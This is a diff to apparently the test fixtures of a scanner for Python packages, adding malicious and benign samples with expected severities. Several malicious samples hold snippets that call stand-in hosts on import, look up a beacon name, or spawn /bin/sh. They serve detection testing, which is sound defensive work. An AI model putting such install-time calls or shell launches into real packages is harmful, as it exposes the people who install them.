@@ -11,6 +11,44 @@ const COMMAND = (body: string): string =>
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a request whose answer nobody reads',
+      files: wheel(
+        'import urllib.request\ndef go():\n    answer = urllib.request.urlopen("https://count.weir.test/own").read()\ngo()\n',
+      ),
+      expected: at('request', 'high', 3, 'own/__init__.py'),
+    },
+    {
+      name: 'a name that is looked up for nothing',
+      files: wheel('import socket\nsocket.gethostbyname("own.names.weir.test")\n'),
+      expected: at('lookup', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'a file from a place where anybody leaves some',
+      files: wheel(
+        'import requests\nDATA = requests.get("https://drop.weir.test/attachments/1/2/own").content\nprint(DATA)\n',
+      ),
+      expected: at('request', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'a request whose answer is read',
+      files: wheel(
+        'import requests\nLIST = requests.get("https://count.weir.test/list").json()\nprint(LIST)\n',
+      ),
+      expected: at('request', 'medium', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'a shell without a line to run',
+      files: wheel('import subprocess\nsubprocess.call("/bin/sh", shell=True)\n'),
+      expected: at('program', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'a script beside the setup script that is not there',
+      files: sdist(
+        `import os, subprocess, sys\n${COMMAND('subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), "go.py")])')}`,
+      ),
+      expected: at('program', 'high', 6),
+    },
+    {
       name: 'a command of the setup script that another module defines',
       files: sdist(
         "from own.hooks import Go\nfrom setuptools import setup\nsetup(name='own', cmdclass={'install': Go})\n",
@@ -112,7 +150,7 @@ export const samples: Samples = {
       files: wheel(
         "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'other'], stdout=subprocess.DEVNULL)\n",
       ),
-      expected: at('package-install', 'medium', 2, 'own/__init__.py'),
+      expected: at('package-install', 'high', 2, 'own/__init__.py'),
     },
     {
       name: 'a script that the package does not hold',
@@ -133,6 +171,30 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a tool of the path that is called like a script',
+      sdist(
+        "import subprocess\nfrom setuptools import setup\nsubprocess.call(['rst2man.py', 'own.rst'])\nsetup(name='own')\n",
+      ),
+    ),
+    quiet('a script of the build that is there', {
+      ...sdist(
+        "import os\nfrom setuptools import setup\nos.system('python tools/make.py')\nsetup(name='own')\n",
+      ),
+      'tools/make.py': 'print(1)\n',
+    }),
+    quiet(
+      'a script that the setup script writes first',
+      sdist(
+        "import subprocess\nfrom setuptools import setup\nopen('probe.py', 'w').write('print(1)')\nsubprocess.call(['python', 'probe.py'])\nsetup(name='own')\n",
+      ),
+    ),
+    quiet(
+      'a network of a module’s own, understood by the system',
+      wheel(
+        'import socket\ndef address(name):\n    return next(a for a in socket.getaddrinfo(name, None))\nclass Net:\n    def __init__(self, net):\n        self.net = address(net.split("/")[0])\nANY = Net(NAMES[0])\n',
+      ),
+    ),
     quiet('a script of its own that builds', {
       ...sdist("import subprocess\nsubprocess.check_call(['native\\\\build.bat'])\n"),
       'native/build.bat': '@echo off\r\ncl /O2 /c src\\own.c\r\nlib /OUT:own.lib own.obj\r\n',
